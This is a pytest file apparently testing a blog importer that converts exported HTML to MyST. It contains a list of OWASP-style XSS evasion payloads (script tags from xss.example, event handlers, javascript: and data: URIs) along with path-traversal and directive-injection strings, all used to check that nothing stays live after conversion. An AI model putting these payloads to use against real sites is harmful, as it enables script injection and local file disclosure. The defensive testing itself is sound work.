"""Export HTML becomes MyST that shows the same text and runs nothing, whatever the probe."""

from __future__ import annotations

import re
from html import escape
from pathlib import Path
from urllib.parse import quote

import pytest
from bs4 import BeautifulSoup, Tag
from hypothesis import given
from markdown_it.renderer import RendererHTML
from myst_parser.config.main import MdParserConfig
from myst_parser.parsers.mdit import create_md_parser

from msblog.check.checks import check_page, file_directive_problems
from msblog.importers import html_to_myst as html_to_myst_module
from msblog.importers.html_to_myst import html_to_myst, is_safe_myst
from tests.importers.test_conversion_properties import LINE, links_and_sources, raised, visible
from tests.sphinxext.test_refused_posts import imported_post_page

# Filter-evasion probes in the manner of the OWASP XSS Filter Evasion Cheat Sheet.
PROBES = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<iframe src=https://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<p>:::{raw} html</p><p>&lt;script&gt;alert(1)&lt;/script&gt;</p><p>:::</p>",
    "<pre>```\n```{raw} html\n&lt;script&gt;alert(1)&lt;/script&gt;\n```</pre>",
    "<p>{raw}`&lt;script&gt;alert(1)&lt;/script&gt;`</p>",
    "<p>(label)=</p><p>% a hidden comment</p><p>+++</p>",
    "<p>```{eval-rst}</p><p>.. raw:: html</p>",
]

SPHINX_MYST = create_md_parser(MdParserConfig(enable_extensions={"colon_fence", "strikethrough"}), RendererHTML)


@pytest.mark.parametrize("html", PROBES)
def test_probe_leaves_nothing_live(html):
    converted = html_to_myst(html)
    assert is_safe_myst(converted.text)
    rendered = BeautifulSoup(SPHINX_MYST.render(converted.text), "lxml")
    assert rendered.find_all(["script", "iframe", "object", "embed", "style", "svg", "math", "base", "meta",
                              "link", "input"]) == []
    for tag in rendered.find_all(True):
        assert not [a for a in tag.attrs if a.lower().startswith("on") or a.lower() == "style"], tag
        for attribute in ("href", "src"):  # a link or source that is kept is a web or mail address
            assert tag.get(attribute) is None or tag[attribute].startswith(("http://", "https://", "mailto:")), tag


def test_plain_markup_text_is_kept_as_text():
    converted = html_to_myst("<p>:::{raw} html</p><p>&lt;b&gt;x&lt;/b&gt; *not emphasis* 1. not a list</p>")
    text = BeautifulSoup(SPHINX_MYST.render(converted.text), "lxml").get_text()
    assert ":::{raw} html" in text and "<b>x</b> *not emphasis* 1. not a list" in text


def test_embeds_become_links_and_active_content_is_reported():
    converted = html_to_myst('<iframe src="//www.youtube.com/embed/a"></iframe><script>x()</script><p>text</p>')
    assert converted.embeds == ["https://www.youtube.com/embed/a"]
    assert converted.removed == ["script"]
    assert "[Embedded iframe: https://www.youtube.com/embed/a](https://www.youtube.com/embed/a)" in converted.text


def test_formatting_survives():
    converted = html_to_myst("<p>A <b>bold</b> <a href='https://e.org/x'>link</a>.</p><ul><li>one</li></ul><blockquote>q</blockquote>")
    html = SPHINX_MYST.render(converted.text)
    soup = BeautifulSoup(html, "lxml")
    assert soup.strong.get_text() == "bold" and soup.a["href"] == "https://e.org/x"
    assert soup.li.get_text() == "one" and soup.blockquote.get_text(strip=True) == "q"


BASE = "http://multiple-sclerosis-research.blogspot.com/2015/05/induction-therapies-more-science-is.html"
BLOG = "http://multiple-sclerosis-research.blogspot.com"


def rendered(text: str) -> BeautifulSoup:
    return BeautifulSoup(SPHINX_MYST.render(text), "lxml")


def addresses(text: str) -> list[str]:
    soup = rendered(text)
    return [address for tag in soup.find_all(["a", "img"]) if (address := tag.get("href") or tag.get("src"))]


@pytest.mark.parametrize(("html", "meant"), [
    ('<a href="../../../../etc/passwd">x</a>', f"{BLOG}/etc/passwd"),
    ('<a href="/etc/passwd">x</a>', f"{BLOG}/etc/passwd"),
    ('<a href="conf.py">x</a>', f"{BLOG}/2015/05/conf.py"),
    ('<a href="./.msblog-imports.json">x</a>', f"{BLOG}/2015/05/.msblog-imports.json"),
    ('<a href="%2e%2e/%2E%2e/conf.py">x</a>', f"{BLOG}/conf.py"),
    ('<a href="..\\..\\conf.py">x</a>', f"{BLOG}/conf.py"),
    ('<a href=" \t../x.html\n">x</a>', f"{BLOG}/2015/x.html"),
    ('<a href="#c123">x</a>', f"{BASE}#c123"),
    ('<a href="?m=1">x</a>', f"{BASE}?m=1"),
    ('<a href="//www.youtube.com/watch?v=a">x</a>', "http://www.youtube.com/watch?v=a"),
    ('<img src="../../images/scan.png" alt="a scan">', f"{BLOG}/images/scan.png"),
    ('<embed src="../movie.swf">', f"{BLOG}/2015/movie.swf"),
    ('<object data="/movie.swf"></object>', f"{BLOG}/movie.swf"),
    ('<object><param name="movie" value="../../v/abc"></object>', f"{BLOG}/v/abc"),
    ('<a href="https://en.wikipedia.org/wiki/Multiple_sclerosis_(disease) x">x</a>',
     "https://en.wikipedia.org/wiki/Multiple_sclerosis_%28disease%29%20x"),
])
def test_a_relative_address_is_what_it_meant_on_the_original_blog(html, meant):
    converted = html_to_myst(html, base=BASE)
    assert is_safe_myst(converted.text)
    assert addresses(converted.text) == [meant]


@pytest.mark.parametrize("address", ["../../../../etc/passwd", "/etc/passwd", "conf.py", "#c1", "%2e%2e/conf.py",
                                     "file:///etc/passwd", "FILE:/etc/passwd", "javascript:alert(1)",
                                     "data:text/html,x", "C:\\Windows\\win.ini", "http:///etc/passwd", "http://[::1"])
def test_an_address_that_is_not_on_the_web_is_never_a_link(address):
    for base in (None, "file:///home/editor/post.html"):
        converted = html_to_myst(f'<p><a href="{address}">the text</a> <img src="{address}" alt="the picture"></p>',
                                 base=base)
        assert addresses(converted.text) == []
        shown = rendered(converted.text).get_text()
        assert "the text" in shown and "the picture" in shown
        assert any(repr(address)[1:-1] in warning for warning in converted.warnings), converted.warnings


POST = "2015/05/induction-therapies-more-science-is"  # the post at BASE
FOOTNOTED = ('<p>Natalizumab works<a href="#ref1" name="back1">[1]</a>.</p><p>References</p>'
             '<ol><li><a name="ref1"></a>Polman et al. <a href="#back1">back</a></li><li>Another</li></ol>')


def shown(text: str) -> BeautifulSoup:
    """``text`` rendered as MyST renders it, with no target's syntax shown (a target is no text on the page)."""
    tokens = [token for token in SPHINX_MYST.parse(text) if token.type != "myst_target"]
    return BeautifulSoup(SPHINX_MYST.renderer.render(tokens, SPHINX_MYST.options, {}), "lxml")


def targets(text: str) -> list[tuple[str, int]]:
    """Each target of ``text`` (``(label)=``), with the line it stands on (from 0)."""
    return [(token.content, token.map[0]) for token in SPHINX_MYST.parse(text) if token.type == "myst_target"]


def test_a_footnotes_mark_and_its_note_lead_to_each_other():
    """A footnote's mark links down to the note, which links back: each link leads to a target standing before the
    paragraph or list item that holds the place it led to, named from the post's path and the place's name."""
    converted = html_to_myst(FOOTNOTED, base=BASE, post=POST)
    assert converted.text == (f"({POST}/back1)=\nNatalizumab works[\\[1\\]](#{POST}/ref1).\n\nReferences\n\n"
                              f"1. ({POST}/ref1)=\n   Polman et al. [back](#{POST}/back1)\n2. Another\n")
    assert converted.targets == [f"{POST}/back1", f"{POST}/ref1"] and converted.warnings == []
    assert is_safe_myst(converted.text, converted.targets) and not is_safe_myst(converted.text)
    page = shown(converted.text)
    assert " ".join(page.get_text().split()) == "Natalizumab works[1]. References Polman et al. back Another"
    assert [a["href"] for a in page.find_all("a")] == [f"#{POST}/ref1", f"#{POST}/back1"]


@pytest.mark.parametrize(("html", "lines"), [
    ('<p>One.</p><p id="x">Two <b>bold</b>.</p>', "(x)=\nTwo **bold**."),  # a paragraph's id
    ('<p>One.</p><p>Two <a name="x">here</a>.</p>', "(x)=\nTwo here."),  # an anchor in a paragraph: before it
    ('<p>One.</p><p>Two <a id="x"></a>and <sup id="fn1">1</sup></p>', "(x)=\nTwo and ^1"),
    ('<p>One.</p><h3 id="x">Heading</h3>', "(x)=\n## Heading"),
    ('<p>One.</p><h3><a name="x"></a>Heading</h3>', "(x)=\n## Heading"),
    ('<p>One.</p><blockquote><p id="x">Quoted.</p></blockquote>', "> (x)=\n> Quoted."),
    ('<p>One.</p><ul><li>a</li><li id="x">b</li></ul>', "- (x)=\n  b"),  # in the list item, before its text
    ('<p>One.</p><ol><li>a<ul><li><a name="x"></a>b</li></ul></li></ol>', "   - (x)=\n     b"),
    ('<p>One.</p><ul id="x"><li>a</li></ul>', "(x)=\n\n\n- a"),  # a list's: before the list
    ('<p>One.</p><table><tr><td>a</td><td id="x">b</td></tr></table>', "(x)=\n|  |  |"),  # before the table
    ('<p>One.</p><pre id="x">code\n(y)=</pre>', "(x)=\n\n\n```"),  # a code block shows its text as written
    ('<p>One.</p><pre>co<a name="x"></a>de</pre>', "(x)=\n\n\n```"),
    ('<p>One.</p><p><img id="x" src="https://example.org/a.png" alt="scan"></p>',
     "(x)=\n![scan](https://example.org/a.png)"),
    ('<p>One.</p><p id="x"></p><p>Two.</p>', "(x)=\n  \n\nTwo."),  # an empty paragraph's: before what follows it
    ('One.<br><br>Refs<br><a name="x"></a>[1] Smith<br>', "(x)=\nRefs  \n\\[1\\] Smith  "),  # lines, one paragraph
])
def test_a_target_stands_before_the_block_that_holds_the_place(html, lines):
    converted = html_to_myst(f'{html}<p><a href="#x">to x</a></p>', base=BASE, post=POST)
    [(label, number)] = targets(converted.text)
    assert label == f"{POST}/x" and converted.targets == [label] and converted.warnings == []
    expected = lines.replace("(x)=", f"({label})=").split("\n")
    assert converted.text.split("\n")[number:number + len(expected)] == expected
    assert is_safe_myst(converted.text, converted.targets)
    words = " ".join(shown(converted.text).get_text().split())
    assert words.startswith("One.") and words.endswith("to x") and "x)=" not in words


def test_only_places_a_link_leads_to_are_kept():
    converted = html_to_myst('<p id="a">A.</p><p><a name="b"></a>B.</p><p id="c">C, <a href="#c">C</a>.</p>',
                             base=BASE, post=POST)
    assert converted.text == f"A.\n\nB.\n\n({POST}/c)=\nC, [C](#{POST}/c).\n" and converted.targets == [f"{POST}/c"]


@pytest.mark.parametrize("html", ['<p>See <a href="#ref1">[1]</a>.</p>', f'<p>See <a href="{BASE}#ref1">[1]</a>.</p>',
                                  '<p>See<sup data-fn="7f" class="fn"><a href="#7f" id="7f-link">1</a></sup>.</p>'])
def test_a_link_to_a_place_the_post_does_not_mark_is_its_text_and_the_report_says_so(html):
    """A place no element's id nor anchor's name marks would lead to the top of the page: the link's text is kept. A
    comment's link to a place in its post is its text too: a comment links only to web addresses."""
    href = html.split("href=")[1].split(chr(34))[1][:80]
    for post, why in ((POST, "the post marks no such place (no element with that id, nor <a> with that name)"),
                      (None, "a comment links only to web and mail addresses")):
        converted = html_to_myst(html + '<p id="ref2">A place no link leads to.</p>', base=BASE, post=post)
        assert addresses(converted.text) == [] and converted.text.startswith("See") and converted.targets == []
        assert converted.warnings == [f"a link to {href!r} within the post is kept as its text: {why}"]


def test_a_comment_keeps_no_target():
    converted = html_to_myst(FOOTNOTED, base=BASE)
    assert targets(converted.text) == [] and addresses(converted.text) == [] and is_safe_myst(converted.text)
    assert len(converted.warnings) == 2


def test_a_place_is_found_as_a_browser_finds_it():
    """By its id, then by an anchor's name; the first such in the page; the address's fragment as written, then
    decoded; the case as written."""
    html = ('<p id="Ref">By id, first.</p><p><a name="Ref">By name.</a></p><p id="Ref">By id, second.</p>'
            '<p><a name="a b">Spaced.</a></p><p id="%41">Written so.</p><p id="A">Decoded.</p><p id="ref">Lower.</p>'
            '<p><a href="#Ref">1</a> <a href="#a%20b">2</a> <a href="#a b">3</a> <a href="#%41">4</a> '
            '<a href="#%2541">5</a> <a href="#ref">6</a></p>')
    converted = html_to_myst(html, base=BASE, post=POST)
    led_to = {}
    lines = converted.text.split("\n")
    for label, number in targets(converted.text):
        led_to[f"#{label}"] = lines[number + 1]
    links = {a.get_text(): led_to[a["href"]] for a in shown(converted.text).find_all("a")}
    assert links == {"1": "By id, first.", "2": "Spaced.", "3": "Spaced.", "4": "Written so.", "5": "Written so.",
                     "6": "Lower."}
    assert converted.warnings == []


HOSTILE = ['"><script>alert(1)</script>', "`x` {raw}`<b>`", "(label)=", "a\nb", "中文", "😀", "x" * 500, "REF1",
           "ref1", "ref-1", "ref 1", "", " ", "c1x", "genindex", "discussion", "comment-5", "1", "../../conf.py",
           "{{ x }}", "%2F", "\u202eevil", "id\x00nul"]


def test_a_hostile_places_name_reaches_the_page_only_as_a_slug():
    """Whatever a place's name holds, its label is the post's path and ASCII letters, digits and '-', no longer than
    40 of them, and no two places of a post share one; nothing of the name is markup or HTML on the page."""
    html = "".join(f'<p id="{escape(name)}">Place {i}.</p>' for i, name in enumerate(HOSTILE)) + "<p>" + " ".join(
        f'<a href="#{escape(quote(name))}">to {i}</a>' for i, name in enumerate(HOSTILE)) + "</p>"
    converted = html_to_myst(html, base=BASE, post=POST)
    assert is_safe_myst(converted.text, converted.targets) and not converted.plain_text
    assert len(set(converted.targets)) == len(converted.targets)
    for label in converted.targets:
        assert re.fullmatch(rf"{POST}/[a-z0-9]+(?:-[a-z0-9]+)*", label) and len(label) <= len(POST) + 1 + 40 + 3
    page = shown(converted.text)
    assert page.find("script") is None and page.find("b") is None
    led_to = {label: shown(converted.text.split("\n")[number + 1]).get_text().strip()
              for label, number in targets(converted.text)}
    within = [a for a in page.find_all("a") if a["href"].startswith("#")]
    for a in within:
        assert led_to[a["href"][1:]] == f"Place {a.get_text().split()[1]}."
    # "#" is the page, "#comment-5" a comment's place on it (the archive keeps its comments)
    assert [a.get_text() for a in page.find_all("a") if a not in within] == ["to 11", "to 16"]
    assert len(within) == len(HOSTILE) - 3 and len(converted.warnings) == 1, converted.warnings  # and a NUL


def test_a_bad_post_path_is_refused():
    for post in ("2015/05/a b", "2015/05/x)=", "2015/05/Upper", "", "2015//x"):
        with pytest.raises(ValueError):
            html_to_myst(FOOTNOTED, base=BASE, post=post)


def test_a_place_markdown_cannot_mark_is_said_and_its_links_are_text(monkeypatch):
    monkeypatch.setattr(html_to_myst_module._Converter, "convert_msblog_anchor", lambda self, el, text, parent_tags: "")
    converted = html_to_myst(FOOTNOTED, base=BASE, post=POST)
    assert targets(converted.text) == [] and addresses(converted.text) == [] and converted.targets == []
    assert converted.warnings == [f"a link to {href!r} within the post is kept as its text: the place it leads to "
                                  "cannot be marked in Markdown where it stands" for href in ("#ref1", "#back1")]


def test_the_conversions_own_element_in_the_source_is_nothing():
    html = '<p>A <msblog-anchor data-target="0">b</msblog-anchor> c<a href="#x">x</a></p><p id="x">X</p>'
    for post in (POST, None):
        converted = html_to_myst(html, base=BASE, post=post)
        assert " ".join(shown(converted.text).get_text().split()) == "A b cx X"
        assert len(targets(converted.text)) == (post is not None)


@pytest.mark.parametrize(("text", "safe"), [(f"({POST}/x)=\nText [x](#{POST}/x)", True),
                                            (f"({POST}/y)=\nText [x](#{POST}/x)", False),
                                            (f"({POST}/x)=\nText [x](#{POST}/y)", False),
                                            ("(x)=\nText", False), ("Text [x](#x)", False)])
def test_only_the_targets_given_and_links_to_them_are_safe(text, safe):
    assert is_safe_myst(text, [f"{POST}/x"]) == safe and not is_safe_myst(text)


def test_a_relative_link_without_an_original_address_says_why_it_is_text():
    converted = html_to_myst('<a href="../x.html">x</a>')
    assert converted.warnings == ["a relative link '../x.html' has no original address to be read against; "
                                  "its text is kept without the link"]


@pytest.mark.parametrize("text", ["[x](../../../../etc/passwd)", "![x](conf.py)", "[x](/etc/passwd)", "[x](#a)",
                                  "[x]\n\n[x]: ./.msblog-imports.json", "[x](<../conf.py>)"])
def test_myst_that_links_a_local_file_is_not_safe(text):
    assert not is_safe_myst(text)


@pytest.mark.parametrize("html", [
    # YouTube's embed code of the blog's years: an <object> with the video as its movie, and an <embed> for others.
    '<object width="425" height="344"><param name="movie" value="http://www.youtube.com/v/abc&hl=en&fs=1"></param>'
    '<param name="allowFullScreen" value="true"></param><embed src="http://www.youtube.com/v/abc&hl=en&fs=1" '
    'type="application/x-shockwave-flash" allowfullscreen="true" width="425" height="344"></embed></object>',
    '<object width="425" height="344"><param name="movie" value="http://www.youtube.com/v/abc&hl=en&fs=1">'
    '<embed src="http://www.youtube.com/v/abc&hl=en&fs=1" type="application/x-shockwave-flash"></object>',
    '<OBJECT><PARAM NAME="Movie" VALUE="http://www.youtube.com/v/abc&amp;hl=en&amp;fs=1"></OBJECT>',
    '<object data="http://www.youtube.com/v/abc&hl=en&fs=1" type="application/x-shockwave-flash"></object>',
])
def test_an_object_embed_becomes_one_link_to_the_video(html):
    converted = html_to_myst(f"<p>Before.</p>{html}<p>After.</p>", base=BASE)
    assert converted.embeds == ["http://www.youtube.com/v/abc&hl=en&fs=1"]
    assert addresses(converted.text) == ["http://www.youtube.com/v/abc&hl=en&fs=1"]
    assert " ".join(rendered(converted.text).get_text().split()) == \
        "Before. Embedded object: http://www.youtube.com/v/abc&hl=en&fs=1 After."


@pytest.mark.parametrize("html", [
    '<p>Watch <embed src="http://www.youtube.com/v/abc"> then read the rest of the post.</p><p>And this.</p>',
    '<p>Watch <embed src="http://www.youtube.com/v/abc"></p><p>then read the rest of the post.</p><p>And this.</p>',
    '<p>Watch <object data="http://www.youtube.com/v/abc"><p>then read the rest of the post.</p><p>And this.</p>',
    '<p>Watch <video src="http://example.org/v.mp4"><p>then read the rest of the post.</p><p>And this.</p>',
])
def test_text_after_an_unclosed_embed_is_kept(html):
    converted = html_to_myst(html, base=BASE)
    text = " ".join(rendered(converted.text).get_text().split())
    assert text.startswith("Watch") and text.endswith("then read the rest of the post. And this.")
    assert len(converted.embeds) == 1 and not converted.warnings


def test_a_conversion_that_would_change_the_text_keeps_it_as_plain_text_and_says_so(monkeypatch):
    monkeypatch.setattr(html_to_myst_module._Converter, "convert_td", lambda self, el, text, parent_tags: " |")
    converted = html_to_myst("<p>Dose:</p><table><tr><td>one</td><td>120 mg</td></tr></table>")
    assert converted.plain_text and " ".join(rendered(converted.text).get_text().split()) == "Dose: one 120 mg"
    assert converted.warnings == ["converting its HTML to Markdown would change its text ('one 120 mg' lost); "
                                  "it is kept as plain text (no formatting or links)"]


@pytest.mark.parametrize("html", ['<div style="font-style: italic;">' * 2000 + "<p>Deep text.</p>" + "</div>" * 2000,
                                  "<p>" + "<span>" * 2000 + "Deep text." + "</span>" * 2000 + "</p>",
                                  "<p>" + '<span style="font-style: italic">' * 4000 + "Deep text." + "</span>" * 4000,
                                  "<div>\n" * 2000 + "<p>Deep text.</p>" + "</div>\n" * 2000])
def test_html_nested_deeper_than_the_conversion_follows_is_kept_as_plain_text_and_said(html):
    """markdownify recurses into each element, and so does BeautifulSoup writing HTML out (with text between the
    elements): an import stopped with a RecursionError. Such HTML is not shaped at all (moving an element nested
    thousands deep takes BeautifulSoup time growing with its depth)."""
    converted = html_to_myst(html)
    assert converted.plain_text and converted.text == "Deep text.\n"
    assert converted.warnings == ["its HTML nests elements deeper than the conversion to Markdown can follow; it is "
                                  "kept as plain text (no formatting or links)"]


@pytest.mark.parametrize(("html", "shown"), [
    ("<p><b>" + "x<br><br>" * 4000 + "</b></p>", "**" + "x  \n" * 3999 + "x**"),  # line breaks in a row in bold: one
    ("<p>" + "10<sup>9 x</sup>" * 4000 + "</p>", "10^(9 x)" * 4000),
    ("<p></p>" * 4000 + "Text", "Text"),
    ("<p>" + "<script>x</script>a" * 4000 + "</p>", "a" * 4000),
    ("<p><code>" + "a<br>" * 4000 + "</code></p>", "`" + "a " * 3999 + "a`"),
    ("<p>" + "<b> </b>a" * 4000 + "</p>", " a" * 4000),
    ("<p><b>" + "<b>x</b> " * 4000 + "</b></p>", "**" + "x " * 3999 + "x**"),
    ("<ul><li>" + "<p>a</p>b" * 4000 + "</li></ul>", "- a\n\n  b" + "\n\n  a\n\n  b" * 3999),  # text beside blocks
])
def test_many_elements_taken_out_or_unwrapped_are_each_found_at_once(monkeypatch, html, shown):
    """Taking elements out, or unwrapping them, one at a time looks for each among its siblings (BeautifulSoup's
    ``Tag.index``): a post of many line breaks in bold, superscripts or empty paragraphs took time growing with their
    number squared (8,000 line breaks in bold: 19 s; 8,000 paragraphs with text between them in a list item: 5 s). The
    siblings looked through are counted, not timed."""
    looked_through = []
    index = Tag.index

    def counted(tag, element):
        looked_through.append(index(tag, element) + 1)
        return looked_through[-1] - 1

    monkeypatch.setattr(Tag, "index", counted)
    converted = html_to_myst(html)
    assert converted.text.strip(" \n") == shown.strip(" ") and sum(looked_through) <= len(html)


def test_emphasis_markdown_cannot_write_is_left_out_and_said(monkeypatch):
    monkeypatch.setattr(html_to_myst_module, "_can_delimit", lambda inside, outside: True)
    converted = html_to_myst('<p><b>Note:</b>Text, <a href="https://example.org/">a link</a>.</p>')
    assert not converted.plain_text and addresses(converted.text) == ["https://example.org/"]
    assert rendered(converted.text).get_text().strip() == "Note:Text, a link."
    assert converted.warnings == ["bold and italics that Markdown cannot write here are left out; the text is kept"]


@pytest.mark.parametrize(("html", "shown"), [
    ("<p><b>Note:</b>Text</p>", "Note:Text"),
    ("<p>“<i>quoted</i>”and</p>", "“quoted”and"),
    ("<p><b>a</b><b>b</b> <i>c</i><i>d</i></p>", "ab cd"),
    ("<p><b>x<b>y</b></b>z</p>", "xyz"),
    ("<p>a<b> </b>b<code> </code>c</p>", "a b c"),
    ("<p>Hooray!<a href='https://example.org/'>link</a></p>", "Hooray!link"),
    ("<ul><li>one<ul><li>two</li></ul>three</li></ul>", "one two three"),
    ("<p>one<p></p>two</p>", "one two"),
    ("<table><tr><td>a</td></tr><tr><td>b</td><td>c</td></tr></table>", "a b c"),
    ("<h2>Title<ul><li>item</li></ul></h2>", "Title item"),
    ("<p><s>struck</s> <sup>up</sup></p>", "struck ^up"),
    ("<p>{raw}<code>&lt;script&gt;</code></p>", "{raw}<script>"),
])
def test_what_markdown_cannot_write_keeps_its_words(html, shown):
    converted = html_to_myst(html)
    assert not converted.plain_text and converted.warnings == []
    assert " ".join(rendered(converted.text).get_text().split()) == shown


@pytest.mark.parametrize(("html", "shown"), [
    ("<p>10<sup>9</sup> cells/L</p>", "10^9 cells/L"),  # not 109
    ("<p>a study<sup>1</sup>; CD20<sup>+</sup>; 10<sup>-3</sup></p>", "a study^1; CD20^+; 10^-3"),
    ("<p>x<sup>n + 1</sup>=</p>", "x^(n + 1)="),
    ("<p>2<sup>2<sup>3</sup></sup> and x<sup><a href='https://example.org/'>1</a></sup></p>", "2^2^3 and x^1"),
    ("<p><b>10<sup>12</sup></b> and H<sub>2</sub>O</p>", "10^12 and H2O"),
    ("<p><code>x<sup>2</sup></code> as written</p>", "x2 as written"),  # code shows text as written
])
def test_a_superscript_stays_raised_as_plain_text_writes_it(html, shown):
    converted = html_to_myst(html)
    assert not converted.plain_text and converted.warnings == []
    assert " ".join(rendered(converted.text).get_text().split()) == shown


def test_text_kept_plain_keeps_its_superscripts_raised(monkeypatch):
    monkeypatch.setattr(html_to_myst_module._Converter, "convert_td", lambda self, el, text, parent_tags: " |")
    converted = html_to_myst("<p>10<sup>9</sup> cells</p><table><tr><td>x<sup>n + 1</sup></td></tr></table>")
    assert converted.plain_text and " ".join(rendered(converted.text).get_text().split()) == "10^9 cells x^(n + 1)"


@pytest.mark.parametrize("html", [
    "<ul><li>% not a comment</li><li>(x)=</li></ul>",
    "<p>a<br>% not a comment<br>(label)=<br>+++</p>",
    "<p>&nbsp;% not a comment</p>",
    "<blockquote><ol><li>:::{note}</li></ol></blockquote>",
    "<p>line\n% not a comment</p>",
    "<p>.. include:: /etc/passwd</p><p>:file: notes.csv</p>",
    "<ul><li>.. raw:: html</li></ul><p>a<br>  :url: https://e.org/x.csv</p>",
])
def test_a_line_myst_would_read_as_its_own_is_shown(html):
    converted = html_to_myst(html)
    assert not converted.plain_text and is_safe_myst(converted.text)
    expected = BeautifulSoup(html, "lxml").get_text(" ")
    assert " ".join(rendered(converted.text).get_text(" ").split()) == " ".join(expected.split())


def test_a_line_read_as_a_directive_in_restructuredtext_is_nothing_the_build_refuses():
    converted = html_to_myst("<p>.. include:: /etc/passwd</p><blockquote>:file: x.csv</blockquote><pre>.. raw:: html</pre>")
    assert list(file_directive_problems(converted.text)) == []
    assert rendered(converted.text).select_one("pre").get_text() == ".. raw:: html\n"  # code as written


@pytest.mark.parametrize("image", ['<img alt="A scan">', '<img src="" alt="A scan">', '<img src=" \n" alt="A scan">'])
def test_an_image_without_an_address_is_its_alt_text_not_the_post_shown_as_an_image(image):
    converted = html_to_myst(f"<p>{image} here.</p>", base=BASE)
    assert converted.text == "A scan here.\n" and converted.removed == ["image without a web address"]


@pytest.mark.parametrize(("html", "text"), [
    ("<p>The dose is <strike>5 mg</strike> 10 mg.</p>", "The dose is ~~5 mg~~ 10 mg.\n"),
    ('<p><del>Gone</del> and <s><a href="https://e.org/">a link</a></s>.</p>', "~~Gone~~ and ~~[a link](https://e.org/)~~.\n"),
    ('<p>a <span style="text-decoration: underline line-through">was</span> is</p>', "a ~~was~~ is\n"),
    ("<p>a<s>.</s>b, ~~not struck~~</p>", "a.b, \\~\\~not struck\\~\\~\n"),  # no "~~" CommonMark would not read
])
def test_struck_out_words_stay_struck_out(html, text):
    converted = html_to_myst(html)
    assert converted.text == text and converted.warnings == []
    shown = rendered(text)
    assert [s.get_text() for s in shown.select("s")] == [s.get_text() for s in BeautifulSoup(html, "lxml").select(
        "s, del, strike, span") if s.get_text() != "."]


@pytest.mark.parametrize(("html", "text"), [
    ('<p>The <span style="font-style: italic;">preliminary</span> results.</p>', "The *preliminary* results.\n"),
    ('<p><span style="color: red; FONT-WEIGHT: bold">Bold</span> and <span style="font-weight:700;font-style:oblique">'
     'both</span>.</p>', "**Bold** and ***both***.\n"),
    ('<div style="font-style: italic;"><p>One.</p><p>Two, <b>bold</b>.</p>Three.</div>',
     "*One.*\n\n*Two, **bold**.*\n\n*Three.*\n"),
    ('<div style="font-weight: bold"><ul><li>a</li><li>b <i>c</i></li></ul></div>', "- **a**\n- **b *c***\n"),
    ('<p><span style="font-style: normal; font-weight: 400">Plain</span> text.</p>', "Plain text.\n"),
    ('<p><span style="font-style:italic">One</span><span style="font-style:italic">word</span></p>', "*Oneword*\n"),
])
def test_bold_and_italics_written_as_a_style_are_kept(html, text):
    converted = html_to_myst(html)
    assert converted.text == text and converted.warnings == []


NORMAL = '<span style="font-weight: normal">'


@pytest.mark.parametrize(("html", "text"), [
    (f"<p><b>bold {NORMAL}plain</span> bold</b></p>", "**bold** plain **bold**\n"),
    ('<p><strong>One<span style="FONT-WEIGHT:400">two</span>three</strong></p>', "**One**two**three**\n"),
    ('<p><i>Latin <span style="color: red; font-style: normal">upright</span> words</i></p>', "*Latin* upright *words*\n"),
    ('<p><b>a <i>b <span style="font-weight: lighter">c</span> d</i> e</b></p>', "**a** ***b** c **d*** **e**\n"),
    ('<p><span style="font-weight: bold">Bold <span style="font-weight: 300">light</span></span></p>', "**Bold** light\n"),
    (f'<div style="font-weight: bold"><p>One {NORMAL}two</span></p><p>Three</p></div>', "**One** two\n\n**Three**\n"),
    (f"<p><b>x<ul><li>a</li><li>b {NORMAL}c</span></li></ul></b></p>", "**x**\n\n- a\n- **b** c\n"),  # bold holding
